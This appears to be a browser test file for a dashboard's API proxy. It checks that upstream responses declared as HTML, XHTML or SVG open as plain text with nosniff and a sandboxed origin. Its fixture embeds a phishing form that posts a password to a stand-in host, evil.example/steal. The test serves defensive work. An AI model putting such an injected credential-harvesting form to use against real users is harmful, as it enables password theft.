// Issue 15, item 1, in a real browser: an upstream answer opened directly (a bookmarked API
// URL, a link someone sends) must never render as a page on the dashboard's origin, whatever
// Content-Type DLI or a box in between claims.
import { expect, PROXY_PROJECT, proxyTest as test } from "./fixtures.ts";

const FORM_IN_JSON = JSON.stringify({
  job_count: 0,
  jobs: [],
  message:
    "<form id=phish action=https://evil.example/steal method=post><input name=password><button>Sign in again</button></form>",
});

for (const contentType of [
  "application/json, text/html",
  "text/html; charset=utf-8",
  "application/xhtml+xml",
  "image/svg+xml",
]) {
  test(`an answer declared ${contentType} opens as text, not as a page`, async ({
    page,
    upstream,
  }) => {
    upstream.script(() => ({ kind: "raw", status: 200, contentType, body: FORM_IN_JSON }));
    const response = await page.goto(`/v2.0/${PROXY_PROJECT}/gene/jobs`);
    // Shown as its text: no element of the answer exists in the document.
    await expect(page.locator("body")).toContainText("<form id=phish");
    await expect(page.locator("form, input, button")).toHaveCount(0);
    expect(response?.headers()["content-type"]).toBe("text/plain; charset=utf-8");
    expect(response?.headers()["x-content-type-options"]).toBe("nosniff");
    // And sandboxed by its CSP: even rendered, it would not be on the dashboard's origin.
    expect(await page.evaluate(() => window.origin)).toBe("null");
    // Back to a page of the origin, where the fixture checks the token's absence from storage.
    await page.goto("/");
  });
}
